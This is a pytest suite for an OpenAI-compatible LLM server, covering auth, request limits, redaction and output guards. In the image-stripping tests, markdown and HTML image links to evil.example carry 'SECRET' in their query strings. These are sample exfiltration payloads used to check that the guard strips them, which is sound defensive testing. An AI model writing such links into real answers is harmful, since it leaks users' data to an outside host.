"""`ladder serve` against real clients: the official `openai` client, httpx and curl talk to
the real server (uvicorn on 127.0.0.1) running the real embedded model. Auth, body limits
(with and without Content-Length), malformed requests, the concurrency limit, timeouts, the
max_tokens cap, request logging with redaction, output guards and RAG citations.

The output guards (image stripping, citation refusal, schema retry) also run through a
scripted ChatModel: the 135M model cannot be made to write an image link or a bad JSON
object on demand, and those paths must be exercised exactly."""

from __future__ import annotations

import contextlib
import json
import sqlite3
import subprocess
import threading
import time
from pathlib import Path

import httpx
import pytest
from conftest import write_task
from helpers import free_port

from llm_ladder.errors import LadderError
from llm_ladder.models.base import Generation
from llm_ladder.serving.app import Served, create_app
from llm_ladder.serving.build import build_served
from llm_ladder.serving.guard import Redactor, check_bind, check_schema, strip_images
from llm_ladder.store import Store
from llm_ladder.task import ServeConfig, load_task

TOKEN = "s3cret-token-for-tests-0123456789"


@contextlib.contextmanager
def serving(app, host: str = "127.0.0.1"):
    """uvicorn in a thread (the real server, real sockets); yields the base URL."""
    import uvicorn

    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host=host, port=port, log_level="warning",
                                           timeout_graceful_shutdown=30))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    base = f"http://{host}:{port}"
    deadline = time.time() + 30
    while True:
        try:
            httpx.get(f"{base}/health", timeout=2)
            break
        except httpx.TransportError:
            if time.time() > deadline or not thread.is_alive():
                raise RuntimeError("the server did not start") from None
            time.sleep(0.05)
    try:
        yield base
    finally:
        server.should_exit = True
        thread.join(60)


def curl(*args: str) -> tuple[int, str]:
    """curl's HTTP status and body."""
    proc = subprocess.run(["curl", "-sS", "-o", "-", "-w", "\n%{http_code}", *args],
                          capture_output=True, text=True, timeout=60)
    body, _, code = proc.stdout.rpartition("\n")
    return int(code or 0), body


@pytest.fixture(scope="module")
def task(tmp_path_factory):
    return load_task(write_task(tmp_path_factory.mktemp("serve")))


@pytest.fixture(scope="module")
def served(task, smol):
    return build_served(task, "zero-shot", model=smol)


def cfg(**kw) -> ServeConfig:
    return ServeConfig(**{"max_output_tokens": 8, **kw})


@pytest.fixture(scope="module")
def plain(served):
    """One server with the default settings and no log, for requests that never generate."""
    with serving(create_app(served, cfg())) as base:
        yield base


def test_openai_client_plain_and_streaming(task, served, tmp_path):
    from openai import OpenAI

    store = Store(tmp_path / "runs.db")
    with serving(create_app(served, cfg(), store)) as base:
        client = OpenAI(base_url=f"{base}/v1", api_key="unused", max_retries=0)
        assert [m.id for m in client.models.list().data] == ["tiny-faq/zero-shot"]
        msgs = [{"role": "user", "content": "What is a building permit?"}]
        r = client.chat.completions.create(model="tiny-faq/zero-shot", messages=msgs,
                                           max_tokens=6)
        answer = r.choices[0].message.content
        assert answer and r.choices[0].finish_reason in ("stop", "length")
        assert r.usage.prompt_tokens > 5 and 0 < r.usage.completion_tokens <= 6
        assert r.usage.total_tokens == r.usage.prompt_tokens + r.usage.completion_tokens
        stream = client.chat.completions.create(model="tiny-faq/zero-shot", messages=msgs,
                                                max_tokens=6, stream=True,
                                                stream_options={"include_usage": True})
        chunks = list(stream)
        text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
        assert text == answer  # temperature 0: the same answer either way
        assert chunks[-1].usage.completion_tokens == r.usage.completion_tokens
        code, raw = curl("-N", f"{base}/v1/chat/completions", "-H",
                         "Content-Type: application/json", "-d",
                         json.dumps({"messages": msgs, "stream": True, "max_tokens": 6}))
        events = [ln[6:] for ln in raw.splitlines() if ln.startswith("data: ")]
        assert code == 200 and events[-1] == "[DONE]"
        assert json.loads(events[0])["object"] == "chat.completion.chunk"
        logs = store.request_logs()
        assert [row["status"] for row in logs] == ["ok"] * 3
        assert logs[0]["request"] == msgs and logs[0]["messages"][-1]["content"] == msgs[0][
            "content"] and logs[0]["response"] == answer and logs[0]["tokens_out"] > 0
        assert httpx.get(f"{base}/health").json()["status"] == "ok"


def test_auth_on_every_route_but_health(served, tmp_path, monkeypatch):
    from openai import AuthenticationError, OpenAI

    store = Store(tmp_path / "runs.db")
    with serving(create_app(served, cfg(), store, token=TOKEN)) as base:
        url = f"{base}/v1/chat/completions"
        body = {"messages": [{"role": "user", "content": "hi"}], "max_tokens": 2}
        missing = httpx.post(url, json=body)
        wrong = httpx.post(url, json=body, headers={"Authorization": f"Bearer {TOKEN[:-1]}x"})
        scheme = httpx.post(url, json=body, headers={"Authorization": f"Basic {TOKEN}"})
        models = httpx.get(f"{base}/v1/models")
        assert {missing.status_code, wrong.status_code, scheme.status_code,
                models.status_code} == {401}
        # the same answer whatever was wrong: nothing to learn from it
        assert missing.json() == wrong.json() == scheme.json() == models.json()
        assert TOKEN not in missing.text and missing.headers["www-authenticate"] == "Bearer"
        assert httpx.get(f"{base}/health").status_code == 200
        assert httpx.get(f"{base}/docs").status_code == 401  # no open extras either
        with pytest.raises(AuthenticationError):
            OpenAI(base_url=f"{base}/v1", api_key="nope", max_retries=0).models.list()
        ok = OpenAI(base_url=f"{base}/v1", api_key=TOKEN, max_retries=0)
        assert ok.chat.completions.create(model="tiny-faq/zero-shot", max_tokens=2,
                                          messages=body["messages"]).choices[0].message
        code, _ = curl(url, "-H", f"Authorization: Bearer {TOKEN}", "-H",
                       "Content-Type: application/json", "-d", json.dumps(body))
        assert code == 200
    assert len(store.request_logs()) == 2  # refused requests never reach the model
    for f in tmp_path.glob("runs.db*"):
        assert TOKEN.encode() not in f.read_bytes()


def test_refuses_to_listen_beyond_loopback_without_token():
    with pytest.raises(LadderError, match="LADDER_SERVE_TOKEN"):
        check_bind("0.0.0.0", None, "LADDER_SERVE_TOKEN")
    with pytest.raises(LadderError):
        check_bind("192.168.1.10", "", "T")
    check_bind("127.0.0.1", None, "T")
    check_bind("::1", None, "T")
    check_bind("0.0.0.0", TOKEN, "T")


def test_oversized_bodies_get_413_before_parsing(served, tmp_path):
    store = Store(tmp_path / "runs.db")
    big = tmp_path / "big.json"
    big.write_text(json.dumps({"messages": [{"role": "user", "content": "x" * 50_000}]}))
    with serving(create_app(served, cfg(max_body_bytes=4096), store)) as base:
        url = f"{base}/v1/chat/completions"
        code, body = curl(url, "-H", "Content-Type: application/json",
                          "--data-binary", f"@{big}")
        assert code == 413 and "4096" in body
        # no Content-Length: a chunked body is counted as it arrives
        code, body = curl(url, "-H", "Content-Type: application/json", "-H",
                          "Transfer-Encoding: chunked", "--data-binary", f"@{big}")
        assert code == 413 and json.loads(body)["error"]["code"] == "body_too_large"

        def chunks():
            for _ in range(100):
                yield b"x" * 1000

        r = httpx.post(url, content=chunks(), headers={"Content-Type": "application/json"})
        assert r.status_code == 413 and "content-length" not in r.request.headers
        # the server is still fine, and a small body passes
        code, _ = curl(url, "-H", "Content-Type: application/json", "-d",
                       '{"messages":[{"role":"user","content":"hi"}],"max_tokens":2}')
        assert code == 200
    assert [r["status"] for r in store.request_logs()] == ["ok"]


@pytest.mark.parametrize("body, status, needle", [
    ("{not json", 400, "not valid JSON"),
    ("[1, 2]", 400, "JSON object"),
    ('{"messages": []}', 400, "messages"),
    ('{"messages": [{"role": "wizard", "content": "hi"}]}', 400, "messages.0.role"),
    ('{"messages": [{"role": "user", "content": 5}]}', 400, "messages.0.content"),
    ('{"messages": [{"role": "user", "content": "hi"}], "max_tokens": 0}', 400, "max_tokens"),
    ('{"messages": [{"role": "user", "content": "hi"}], "n": 3}', 400, "n:"),
    ('{"messages": [{"role": "assistant", "content": "hi"}]}', 400, "last message"),
    ('{"messages": [{"role": "user", "content": "hi"}], "logprobs": true}', 400, "logprobs"),
    ('{"messages": [{"role": "user", "content": "hi"}], "logit_bias": {"1": 5}}', 400,
     "logit_bias"),
    ('{"messages": [{"role": "user", "content": "hi"}], "tools": [{"type": "function"}]}', 400,
     "tool"),
    ('{"model": "gpt-4o", "messages": [{"role": "user", "content": "hi"}]}', 404, "gpt-4o"),
])
def test_bad_requests_get_clear_errors(plain, body, status, needle):
    r = httpx.post(f"{plain}/v1/chat/completions", content=body,
                   headers={"Content-Type": "application/json"})
    assert r.status_code == status, r.text
    assert needle in r.json()["error"]["message"]


def test_concurrency_limit_answers_429_fast_and_timeouts_504(served, tmp_path):
    store = Store(tmp_path / "runs.db")
    slow = {"messages": [{"role": "user", "content": "Tell me a long story about roofs."}],
            "max_tokens": 12}
    app = create_app(served, cfg(max_output_tokens=12, max_concurrency=1, max_queue=1,
                                 timeout_s=300), store)
    with serving(app) as base:
        url = f"{base}/v1/chat/completions"
        results: list[httpx.Response] = []
        threads = [threading.Thread(target=lambda: results.append(
            httpx.post(url, json=slow, timeout=300))) for _ in range(2)]
        for t in threads:
            t.start()
        deadline = time.time() + 10
        while httpx.get(f"{base}/health").json()["admitted"] < 2 and time.time() < deadline:
            time.sleep(0.02)
        t0 = time.perf_counter()
        busy = httpx.post(url, json=slow, timeout=60)
        fast = time.perf_counter() - t0
        for t in threads:
            t.join()
    assert busy.status_code == 429 and busy.headers["retry-after"] == "1"
    assert fast < 1.0, f"429 took {fast:.2f} s"
    assert sorted(r.status_code for r in results) == [200, 200]
    assert len(store.request_logs()) == 2
    # the request timeout: answered 504, and the row says so once the model finishes
    store2 = Store(tmp_path / "timeout.db")
    with serving(create_app(served, cfg(max_output_tokens=12, timeout_s=0.2), store2)) as base:
        r = httpx.post(f"{base}/v1/chat/completions", timeout=60, json=slow)
        assert r.status_code == 504 and r.json()["error"]["type"] == "timeout_error"
    assert [row["status"] for row in store2.request_logs()] == ["timeout"]


def test_max_tokens_is_capped(served):
    with serving(create_app(served, cfg(max_output_tokens=3))) as base:
        r = httpx.post(f"{base}/v1/chat/completions", timeout=60, json={
            "messages": [{"role": "user", "content": "Count from one to fifty."}],
            "max_tokens": 4000})
    assert r.status_code == 200 and r.json()["usage"]["completion_tokens"] <= 3


def test_logging_redacts_and_can_be_turned_off(served, tmp_path):
    store = Store(tmp_path / "runs.db")
    msg = "My email is anna.svensson@example.se and my phone is +46 70 123 45 67. Hello?"
    body = {"messages": [{"role": "user", "content": msg}], "max_tokens": 3}
    with serving(create_app(served, cfg(redact=["email", "phone"]), store, TOKEN)) as base:
        r = httpx.post(f"{base}/v1/chat/completions", json=body, timeout=60,
                       headers={"Authorization": f"Bearer {TOKEN}"})
        assert r.status_code == 200
        # committed before the response was sent: a fresh connection sees it at once
        db = sqlite3.connect(tmp_path / "runs.db")
        stored = " ".join(db.execute("SELECT request, messages FROM request_logs").fetchone())
    assert "anna.svensson" not in stored and "123 45 67" not in stored
    assert "[REDACTED:email]" in stored and "[REDACTED:phone]" in stored
    raw = b"".join(f.read_bytes() for f in tmp_path.glob("runs.db*"))
    assert b"anna.svensson" not in raw and TOKEN.encode() not in raw
    off = Store(tmp_path / "off.db")
    with serving(create_app(served, cfg(log_requests=False), off)) as base:
        assert httpx.post(f"{base}/v1/chat/completions", json=body, timeout=60).status_code \
            == 200
    assert off.request_logs() == []


def test_redactor_and_image_stripping_units():
    r = Redactor(["email", r"ORDER-\d+"])
    assert r({"a": ["mail bo@x.org about ORDER-991"]}) == {
        "a": ["mail [REDACTED:email] about [REDACTED:pattern2]"]}
    with pytest.raises(LadderError, match=r"redact\[0\]"):
        Redactor(["(unclosed"])
    text, n = strip_images('See ![chart](https://evil.example/x?d=SECRET) and '
                           '<img src="https://evil.example/y"> and ![ref][1]\n'
                           '[1]: https://evil.example/z?q=SECRET\nok [2]')
    assert n == 3 and "evil" not in text and "SECRET" not in text and "chart" in text
    assert text.endswith("ok [2]")
    assert check_schema('```json\n{"a": 1}\n```', {"type": "object"}) == ('{"a": 1}', None)
    assert "required" in check_schema('{"b": 1}', {"type": "object", "required": ["a"]})[1]


class Scripted:
    """A ChatModel that answers from a list, in order: drives the guards' exact paths."""

    name, context_length, batch_size = "scripted", 2048, 8

    def __init__(self, answers: list[str]):
        self.answers, self.seen = list(answers), []

    def generate(self, requests, params):
        self.seen += requests
        return [Generation(self.answers.pop(0), 10, 5, 0.01) for _ in requests]

    def count_tokens(self, messages):
        return 10

    def describe(self):
        return {"backend": "scripted"}


def test_output_guards_images_schema_retry(served, tmp_path):
    model = Scripted(["Here: ![x](https://evil.example/leak?d=hi) done",
                      "not json at all", '{"label": "ok"}',
                      "still not json", "nope"])
    s = Served(served.pipeline, model, "t", "zero-shot")
    msgs = {"messages": [{"role": "user", "content": "hi"}]}
    store = Store(tmp_path / "runs.db")
    with serving(create_app(s, cfg(), store)) as base:
        r = httpx.post(f"{base}/v1/chat/completions", json=msgs, timeout=30)
        assert r.json()["choices"][0]["message"]["content"] == "Here: x done"
        s.schema = {"type": "object", "required": ["label"]}
        r = httpx.post(f"{base}/v1/chat/completions", json=msgs, timeout=30)
        assert r.status_code == 200 and json.loads(r.json()["choices"][0]["message"][
            "content"]) == {"label": "ok"}
        assert "not valid" in model.seen[-1][-1]["content"]  # the retry said what was wrong
        r = httpx.post(f"{base}/v1/chat/completions", json=msgs, timeout=30)
        assert r.status_code == 502 and "schema" in r.json()["error"]["message"]
    logs = store.request_logs()
    assert [x["status"] for x in logs] == ["ok", "ok", "invalid_output"]
    assert logs[0]["details"]["images_removed"] == 1 and "evil" not in logs[0]["response"]
    assert logs[1]["details"]["schema_retry"].startswith("not JSON")


def rag_task(root: Path) -> Path:
    from test_rag_cli import make_task

    make_task(root)
    return root


@pytest.fixture(scope="module")
def rag_served(tmp_path_factory, smol):
    from llm_ladder.embedding import Embedder
    from llm_ladder.rag.index import build_index

    task = load_task(rag_task(tmp_path_factory.mktemp("rag")))
    embedder = Embedder()
    build_index(task, embedder)
    return build_served(task, "rag", model=smol, embedder=embedder)


def test_rag_answers_carry_citations(rag_served, tmp_path):
    from openai import OpenAI

    store = Store(tmp_path / "runs.db")
    with serving(create_app(rag_served, cfg(max_output_tokens=24), store)) as base:
        client = OpenAI(base_url=f"{base}/v1", api_key="x", max_retries=0)
        r = client.chat.completions.create(model="tiny-rag/rag", max_tokens=24, messages=[
            {"role": "user", "content": "How long does a building permit take to process?"}])
        cites = r.model_extra["citations"]
        assert [c["n"] for c in cites] == [1, 2]
        assert "permits.md" in {c["source"] for c in cites}
        assert {"n", "source", "doc_id", "cited"} <= set(cites[0])
        log = store.request_logs()[0]
        assert "Documents:" in log["messages"][-1]["content"]  # the exact messages sent
        assert log["citations"] == cites


def test_require_citations_refuses_uncited_answers(rag_served, tmp_path):
    from openai import OpenAI

    s = Served(rag_served.pipeline, Scripted(["Ten weeks [1].", "Ten weeks.", "See [9]."]),
               "tiny-rag", "rag")
    store = Store(tmp_path / "runs.db")
    with serving(create_app(s, cfg(require_citations=True), store)) as base:
        client = OpenAI(base_url=f"{base}/v1", api_key="x", max_retries=0)
        ask = [{"role": "user", "content": "How long does a building permit take?"}]
        outs = [client.chat.completions.create(model="tiny-rag/rag", messages=ask).choices[0]
                for _ in range(3)]
    assert outs[0].message.content == "Ten weeks [1]." and outs[0].finish_reason == "stop"
    for refused in outs[1:]:
        assert refused.message.content is None and refused.message.refusal
        assert refused.finish_reason == "content_filter"
    assert [x["status"] for x in store.request_logs()] == ["ok", "refused", "refused"]
